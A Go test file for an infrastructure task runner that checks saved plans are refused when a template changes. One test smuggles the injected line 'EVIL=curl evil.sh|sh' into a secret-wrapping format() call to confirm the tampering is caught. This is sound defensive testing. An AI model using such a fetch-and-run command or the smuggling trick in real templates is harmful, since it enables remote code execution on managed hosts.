package runner

import (
	"strings"
	"testing"
)

// TestSavedPlanSecretSmuggle: text hidden inside a function of a secret
// (format("%s\nEVIL=...", var.token)) changes what apply would write; the
// steps digest covers content in clear (keyed), so the plan is refused.
func TestSavedPlanSecretSmuggle(t *testing.T) {
	w := newWorld(t, `
variable "token" {
  type      = string
  sensitive = true
}

task "template" "env" {
  source = "app.env.tpl"
  path   = "${var.root}/out.env"
  mode   = "0600"
}
`, localInventory("h1"))
	w.write("app.env.tpl", "MODE=prod\nTOKEN=${var.token}\n")
	env := []string{"CLAWRUN_VAR_token=tok-abcdef-123456"}
	pf := w.planOut(runOpts{environ: env})
	w.write("app.env.tpl", "MODE=prod\nTOKEN=${format(\"%s\\nEVIL=curl evil.sh|sh\", var.token)}\n")
	res := w.run(runOpts{apply: true, replay: pf, environ: env})
	if res.code == 0 || w.exists("out.env") {
		t.Fatalf("apply of a plan whose template changed inside a secret: exit %d, wrote %q\n%s", res.code, w.read("out.env"), res.text)
	}
	if !strings.Contains(res.all(), "would now do other than the saved plan says") {
		t.Errorf("no clear refusal:\n%s", res.all())
	}
}

// TestSavedPlanSensitiveRandomApplies: a plan with a sensitive random_hex
// (drawn anew at apply) still applies.
func TestSavedPlanSensitiveRandomApplies(t *testing.T) {
	w := newWorld(t, `
task "file" "token" {
  path    = "${var.root}/token"
  content = "TOKEN=${sensitive(random_hex(16))}\n"
  mode    = "0600"
}
`, localInventory("h1"))
	pf := w.planOut(runOpts{})
	res := w.applyPlan(pf)
	if res.code != 0 || !strings.HasPrefix(w.read("token"), "TOKEN=") {
		t.Fatalf("apply: exit %d %s\n%s", res.code, res.err, res.text)
	}
}
